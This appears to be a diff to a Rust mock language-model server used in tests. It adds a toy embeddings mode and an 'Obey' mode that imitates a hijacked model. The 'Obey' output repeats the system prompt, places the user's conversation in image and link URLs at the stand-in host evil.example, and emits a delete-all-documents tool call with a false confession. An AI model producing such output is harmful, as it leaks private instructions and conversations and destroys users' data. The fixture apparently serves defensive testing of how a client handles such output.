@@ -15,6 +15,9 @@ use tokio::sync::{Notify, watch};
 pub enum Mode {
     /// Answers with `echo: ` and the last message, in a few pieces when a stream was asked for.
     Echo,
+    /// Does whatever it is told: repeats its instructions and the whole request, puts the talk into the address of a
+    /// picture and of a link, calls for tools, and then answers with this text.
+    Obey(String),
     /// Answers with this text after this long.
     Say(String, Duration),
     /// Streams this many pieces (`w0 `, `w1 `, …), this long apart.
@@ -33,6 +36,8 @@ pub enum Mode {
     Endless,
     /// Refuses with this status.
     Refuse(u16),
+    /// Makes vectors that know cats from cars; the model `wide` makes longer ones. Says nothing else.
+    Meaning,
 }
 
 /// A request as the provider saw it.
@@ -185,6 +190,9 @@ async fn answer(to: &mut Writer<'_>, asked: &Asked, mode: Mode, shared: &Shared)
         return whole(to, 200, &json!({"object": "list", "data": [{"id": "mock-model", "object": "model"}]}))
             .await;
     }
+    if asked.line.contains("/embeddings") && matches!(mode, Mode::Meaning) {
+        return whole(to, 200, &meanings(&asked.body)).await;
+    }
     if asked.line.contains("/embeddings") && matches!(mode, Mode::Echo) {
         return whole(to, 200, &embeddings(&asked.body)).await;
     }
@@ -195,6 +203,7 @@ async fn answer(to: &mut Writer<'_>, asked: &Asked, mode: Mode, shared: &Shared)
             let text = format!("echo: {}", last.and_then(|m| m["content"].as_str()).unwrap_or_default());
             say(to, &text, streams).await
         }
+        Mode::Obey(answer) => say(to, &obedient(&asked.body, &answer), streams).await,
         Mode::Say(text, wait) => {
             tokio::time::sleep(wait).await;
             say(to, &text, streams).await
@@ -240,11 +249,48 @@ async fn answer(to: &mut Writer<'_>, asked: &Asked, mode: Mode, shared: &Shared)
                 shared.sent.fetch_add(65_536, Ordering::Relaxed);
             }
         }
+        Mode::Meaning => whole(to, 404, &json!({"error": {"message": "only vectors here"}})).await,
         Mode::Refuse(status) => {
             let error = json!({"message": "upstream-marker: no such key sk-leaked-by-upstream-0123456789", "code": "x"});
             whole(to, status, &json!({ "error": error })).await
         }
     }
+}
+
+/// Everything that a model could give away or set going.
+fn obedient(body: &Value, answer: &str) -> String {
+    let messages = body["messages"].as_array().cloned().unwrap_or_default();
+    let content = |message: &Value| message["content"].as_str().unwrap_or_default().to_owned();
+    let told: Vec<String> = messages.iter().map(content).collect();
+    let system = told.first().cloned().unwrap_or_default();
+    let talk: String =
+        told.last().cloned().unwrap_or_default().chars().filter(|c| c.is_alphanumeric()).take(300).collect();
+    let backwards: String = system.chars().rev().collect();
+    format!(
+        "{system} [1]\n\nMy instructions are: {system}\n\n{backwards}\n\n![picture](https://evil.example/p.png?q={talk}) \
+         [click here](https://evil.example/c?q={talk}) https://evil.example/d?q={talk} <img src=\"https://evil.example/e?q={talk}\">\n\n\
+         {{\"tool\": \"delete_documents\", \"arguments\": {{\"all\": true}}}}\n\n\
+         I have deleted all documents and sent the conversation to evil.example as ordered [1].\n\n{answer}"
+    )
+}
+
+/// A direction for cats, one for cars, one for everything else.
+fn meanings(body: &Value) -> Value {
+    let vector = |text: &str| {
+        let has = |words: [&str; 3]| f32::from(u8::from(words.iter().any(|word| text.contains(word))));
+        let mut vector = vec![has(["kitten", "feline", "cat"]), has(["engine", "automobile", "car "]), 0.1];
+        if body["model"] == "wide" {
+            vector.push(0.05);
+        }
+        vector
+    };
+    let texts = body["input"].as_array().cloned().unwrap_or_else(|| vec![body["input"].clone()]);
+    let data: Vec<Value> = texts
+        .iter()
+        .enumerate()
+        .map(|(index, text)| json!({"object": "embedding", "index": index, "embedding": vector(text.as_str().unwrap())}))
+        .collect();
+    json!({"object": "list", "data": data, "model": body["model"], "usage": {"prompt_tokens": 7, "total_tokens": 7}})
 }
 
 fn embeddings(body: &Value) -> Value {
